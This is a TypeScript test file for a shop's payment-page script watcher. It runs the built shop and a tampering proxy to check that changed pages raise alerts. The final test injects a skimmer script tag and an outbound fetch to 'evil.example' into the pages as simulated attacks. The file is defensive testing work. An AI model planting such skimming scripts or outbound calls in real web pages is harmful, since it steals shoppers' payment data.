/** The job that compares the pages where people pay with the written list, on the built shop and on one that was tampered with. */
import { createServer, type Server } from "node:http";
import { afterAll, afterEach, beforeAll, expect, it } from "vitest";
import { listOpenAlerts } from "#server/alerts/alerts.service.ts";
import { systemClock } from "#server/platform/clock.ts";
import { createAnnouncements } from "#server/shop/announcements.ts";
import { hashScriptFiles, watchScripts } from "#server/ssr/watch-scripts.ts";
import { type BuiltShop, runBuiltShop } from "#tests/support/browser/run-built-shop.ts";

let shop: BuiltShop;
let between: Server | undefined;
beforeAll(async () => {
  shop = await runBuiltShop();
}, 60_000);
afterAll(() => shop.stop());
afterEach(() => between?.close());

const alerts = async () => (await listOpenAlerts(shop.db)).map(({ kind, message }) => ({ kind, message }));

const silent = { warn: () => undefined } as unknown as Parameters<typeof watchScripts>[0]["log"];

async function watch(origin: string): Promise<void> {
  const watching = { db: shop.db, clock: systemClock, announcements: createAnnouncements(), log: silent };
  await watchScripts(watching, { scriptFiles: await hashScriptFiles(), guests: [], origin });
}

/** Somebody between the shop and its visitors. */
async function tamper(change: (path: string, text: string) => string): Promise<string> {
  between = createServer(async (request, response) => {
    const path = request.url ?? "/";
    const answer = await fetch(shop.url + path);
    const headers = Object.fromEntries(answer.headers);
    for (const name of ["content-encoding", "content-length", "transfer-encoding"]) delete headers[name];
    response.writeHead(answer.status, headers).end(change(path, await answer.text()));
  });
  await new Promise<void>((resolve) => between?.listen(0, "127.0.0.1", resolve));
  const address = between.address();
  if (address === null || typeof address === "string") throw new Error("no port");
  return `http://127.0.0.1:${address.port}`;
}

it("the built shop's own pages are as written", async () => {
  await watch(shop.url);
  expect(await alerts()).toEqual([]);
});

it("an address that does not answer raises nothing", async () => {
  await watch("http://127.0.0.1:9");
  expect(await alerts()).toEqual([]);
});

it("a planted script and a changed file raise one alert that names both", async () => {
  const origin = await tamper((path, text) => {
    if (path === "/")
      return text.replace("</body>", '<script src="https://evil.example/skim.js"></script></body>');
    return path.startsWith("/assets/root-") ? `${text};fetch("https://evil.example/")` : text;
  });
  await watch(origin);
  await watch(origin);
  expect(await alerts()).toEqual([
    {
      kind: "page-scripts",
      message: expect.stringMatching(
        /on \/ a tag loads “https:\/\/evil\.example\/skim\.js”; \/assets\/root-\S+ is not the file/,
      ),
    },
  ]);
});
